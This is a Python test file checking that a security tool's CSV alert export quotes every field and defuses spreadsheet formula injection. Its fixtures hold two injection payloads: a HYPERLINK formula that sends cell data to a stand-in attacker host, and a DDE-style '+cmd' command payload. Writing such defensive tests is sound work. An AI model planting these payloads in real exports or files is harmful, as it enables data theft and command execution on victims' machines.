"""The CSV export quotes every field and defuses cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

from secops.alerts.export import CSV_COLUMNS, export_csv
from secops.alerts.service import write_alerts
from secops.context import Context
from secops.detect.models import RuleMatch, RuleMeta

FORMULA_RULE = RuleMeta(
    id="5f0c2c8e-2b6f-4f8e-9d0a-0a1b2c3d4e5f",
    title='=HYPERLINK("http://evil.example/?"&A1,"open")',
    level="high",
    logsource={"product": "linux", "service": "sshd"},
)


def _export(ctx: Context, host: str) -> str:
    event = {"@timestamp": "2025-03-01T10:00:00Z", "host": {"name": host}, "message": "x"}
    write_alerts(ctx, [RuleMatch(rule=FORMULA_RULE, event=event, event_id="ev-1")])
    ctx.es.indices.refresh(index=ctx.names.alerts)
    return b"".join(export_csv(ctx, flt=None, limit=10)).decode()


def test_every_field_is_quoted_and_formulas_are_defused(ctx: Context) -> None:
    text = _export(ctx, host="+cmd|' /C calc'!A0, 42")
    header, row, *rest = text.splitlines()
    assert rest == []
    assert header == ",".join(f'"{c}"' for c in CSV_COLUMNS)
    # QUOTE_ALL: every field, empty ones and numbers too, starts and ends with a quote.
    cells = row.split('","')
    assert len(cells) == len(CSV_COLUMNS)
    assert row[0] == row[-1] == '"'
    parsed = dict(zip(CSV_COLUMNS, next(csv.reader(io.StringIO(row))), strict=True))
    assert parsed["rule.title"] == "'" + FORMULA_RULE.title
    assert parsed["host.name"] == "'+cmd|' /C calc'!A0, 42"
    assert parsed["count"] == "1"
